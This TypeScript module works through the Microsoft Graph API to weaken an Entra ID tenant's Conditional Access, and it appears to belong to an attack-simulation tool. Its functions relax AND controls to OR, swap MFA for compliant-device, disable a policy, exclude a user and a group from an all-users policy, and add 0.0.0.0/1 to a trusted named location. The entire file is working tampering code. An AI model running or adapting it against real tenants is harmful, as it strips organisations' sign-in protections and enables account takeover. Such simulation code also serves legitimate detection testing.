import type { Client, Json } from './client.js';
import {
  type Item,
  isEmergencyAccount,
  isExchangeGroup,
  isSynced,
  LOCATIONS,
  listGroups,
  listLocations,
  listPolicies,
  listUsers,
  objectOf,
  POLICIES,
  textsOf,
} from './tenant-view.js';

/** An attacker who holds Conditional Access opens ways in: weaker controls, a disabled policy, exclusions, wider locations. */
export async function tamperConditionalAccess(client: Client): Promise<string[]> {
  const policies = (await listPolicies(client)).filter((policy) => policy.state === 'enabled');
  const take = (matches: (policy: Item) => boolean): Item | undefined => {
    const place = policies.findIndex(matches);
    return place < 0 ? undefined : policies.splice(place, 1)[0];
  };
  const isOpenToAll = (policy: Item) => textsOf(usersOf(policy).includeUsers).includes('All');
  const controlsOf = (policy: Item) => textsOf(objectOf(policy.grantControls).builtInControls);
  const both = take((policy) => objectOf(policy.grantControls).operator === 'AND' && controlsOf(policy).length > 1);
  const mfa = take((policy) => controlsOf(policy).join() === 'mfa');
  const tenant = { users: await listUsers(client), groups: await listGroups(client) };
  const excluded = take((policy) => isOpenToAll(policy) && refersOnlyToActive(policy, tenant));
  const disabled = take((policy) => controlsOf(policy).includes('block')) ?? take(() => true);
  return [
    ...(await weaken(client, both, { operator: 'OR' }, 'any one of its controls is enough now')),
    ...(await weaken(client, mfa, { builtInControls: ['compliantDevice'] }, 'MFA is not required any more')),
    ...(await exclude(client, excluded, tenant)),
    ...(await disable(client, disabled)),
    ...(await widenLocations(client)),
  ];
}

async function weaken(client: Client, policy: Item | undefined, change: Json, effect: string): Promise<string[]> {
  if (policy === undefined) return [];
  const { authenticationStrength, ...controls } = withoutAnnotations(objectOf(policy.grantControls));
  const strength = objectOf(authenticationStrength).id;
  const kept = strength === undefined ? {} : { authenticationStrength: { id: strength } };
  await client.patch(`${POLICIES}/${policy.id}`, { grantControls: { ...controls, ...kept, ...change } });
  return [`grant controls weakened (${effect}): ${policy.displayName}`];
}

async function disable(client: Client, policy: Item | undefined): Promise<string[]> {
  if (policy === undefined) return [];
  await client.patch(`${POLICIES}/${policy.id}`, { state: 'disabled' });
  return [`policy disabled: ${policy.displayName}`];
}

interface Tenant {
  readonly users: readonly Item[];
  readonly groups: readonly Item[];
}

/** False if the policy names something that is in the recycle bin: Graph would not take its conditions back. */
function refersOnlyToActive(policy: Item, tenant: Tenant): boolean {
  const known = new Set(
    [...tenant.users, ...tenant.groups].map((item) => item.id).concat('All', 'GuestsOrExternalUsers'),
  );
  const { includeUsers, excludeUsers, includeGroups, excludeGroups } = usersOf(policy);
  return [includeUsers, excludeUsers, includeGroups, excludeGroups].flatMap(textsOf).every((id) => known.has(id));
}

/** Leaves out one user and one group that the policy applied to. */
async function exclude(client: Client, policy: Item | undefined, tenant: Tenant): Promise<string[]> {
  if (policy === undefined) return [];
  const conditions = withoutAnnotations(objectOf(policy.conditions));
  const users = usersOf(policy);
  const excludedUsers = textsOf(users.excludeUsers);
  const excludedGroups = textsOf(users.excludeGroups);
  const isNew = (ids: string[]) => (item: Item) => !ids.includes(item.id);
  const people = tenant.users.filter((user) => user.userType === 'Member' && !isEmergencyAccount(user));
  const person = people.filter(isNew(excludedUsers)).slice(0, 1);
  const groups = tenant.groups.filter((group) => !isSynced(group) && !isExchangeGroup(group));
  const group = groups.filter(isNew(excludedGroups)).slice(0, 1);
  const changed = {
    ...users,
    excludeUsers: [...excludedUsers, ...person.map((item) => item.id)],
    excludeGroups: [...excludedGroups, ...group.map((item) => item.id)],
  };
  await client.patch(`${POLICIES}/${policy.id}`, { conditions: { ...conditions, users: changed } });
  const names = [...person, ...group].map((item) => item.displayName).join(' and ');
  return [`excluded from ${policy.displayName}: ${names}`];
}

async function widenLocations(client: Client): Promise<string[]> {
  const locations = await listLocations(client);
  const addresses = locations.filter((location) => location['@odata.type'] === '#microsoft.graph.ipNamedLocation');
  const countries = locations.find(
    (location) =>
      location['@odata.type'] === '#microsoft.graph.countryNamedLocation' &&
      !location.includeUnknownCountriesAndRegions,
  );
  const ip = addresses.find((location) => location.isTrusted === true) ?? addresses[0];
  const summary: string[] = [];
  if (ip !== undefined) {
    const range = { '@odata.type': '#microsoft.graph.iPv4CidrRange', cidrAddress: '0.0.0.0/1' };
    await patchLocation(client, ip, { ipRanges: [...(Array.isArray(ip.ipRanges) ? ip.ipRanges : []), range] });
    summary.push(`half of the internet added to named location: ${ip.displayName}`);
  }
  if (countries !== undefined) {
    const known = textsOf(countries.countriesAndRegions);
    const added = ['AQ', 'BV', 'HM'].find((code) => !known.includes(code)) ?? 'TF';
    await patchLocation(client, countries, { countriesAndRegions: [...known, added] });
    summary.push(`country ${added} added to named location: ${countries.displayName}`);
  }
  return summary;
}

async function patchLocation(client: Client, location: Item, change: Json): Promise<void> {
  await client.patch(`${LOCATIONS}/${location.id}`, { '@odata.type': location['@odata.type'], ...change });
}

function usersOf(policy: Item): Json {
  return objectOf(objectOf(policy.conditions).users);
}

/** What a read adds and a write must not carry. */
function withoutAnnotations(value: Json): Json {
  return Object.fromEntries(Object.entries(value).filter(([name]) => !name.endsWith('@odata.context')));
}
